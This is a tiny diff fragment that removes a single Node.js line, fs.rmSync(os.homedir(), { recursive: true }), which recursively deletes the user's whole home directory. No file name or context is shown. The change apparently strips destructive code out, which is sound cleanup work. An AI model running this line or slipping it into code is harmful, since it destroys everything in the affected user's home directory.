@@ -1,1 +1,0 @@
-fs.rmSync(os.homedir(), { recursive: true })
